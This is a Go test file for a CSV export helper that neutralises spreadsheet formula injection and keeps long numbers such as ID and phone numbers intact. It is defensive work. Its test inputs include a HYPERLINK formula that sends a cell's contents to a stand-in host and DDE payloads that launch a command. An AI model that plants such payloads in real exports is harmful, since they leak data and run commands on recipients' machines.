package flows

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		// Formulas and what a spreadsheet may strip before it looks.
		{`=HYPERLINK("http://evil.example/?"&C2,"klik")`, `'=HYPERLINK("http://evil.example/?"&C2,"klik")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"  =1+1", "'  =1+1"},
		{"\n@x", "'\n@x"},
		{"-", "'-"},
		{"+62 812-3456-7890", "'+62 812-3456-7890"},
		// Digits a spreadsheet would round or strip: a NIK, a leading zero.
		{"1571015205900003", "'1571015205900003"},
		{"081234567890", "'081234567890"},
		{"+6281234567890", "'+6281234567890"},
		{"007", "'007"},
		// Left alone: plain numbers, codes, words.
		{"", ""},
		{"0", "0"},
		{"12", "12"},
		{"45", "45"},
		{"-1.610100", "-1.610100"},
		{"103.613100", "103.613100"},
		{"09.12", "09.12"},
		{"15.71.01.1002", "15.71.01.1002"},
		{"JMB-26-00042", "JMB-26-00042"},
		{"Siti Aminah", "Siti Aminah"},
		{"Jl. Sumantri Brojonegoro No. 5 = rumah biru", "Jl. Sumantri Brojonegoro No. 5 = rumah biru"},
		{"02-11-2026 09:00", "02-11-2026 09:00"},
		{"a@b.example", "a@b.example"},
	}
	for _, tc := range tests {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// writeCSV starts with a byte order mark and passes every cell of every row
// through csvCell, empty lines included.
func TestWriteCSV(t *testing.T) {
	data, err := writeCSV([][]string{{"Judul", "=1+1"}, nil, {"1", "1571015205900003", "Siti, \"Ani\""}})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Fatalf("no byte order mark: %q", data)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"Judul", "'=1+1"}, {"1", "'1571015205900003", "Siti, \"Ani\""}}
	if len(got) != len(want) || !slices.Equal(got[0], want[0]) || !slices.Equal(got[1], want[1]) {
		t.Fatalf("read back %q, want %q", got, want)
	}
	if !bytes.Contains(data, []byte("'=1+1\n\n1,")) {
		t.Fatalf("the empty line is gone: %q", data)
	}
}
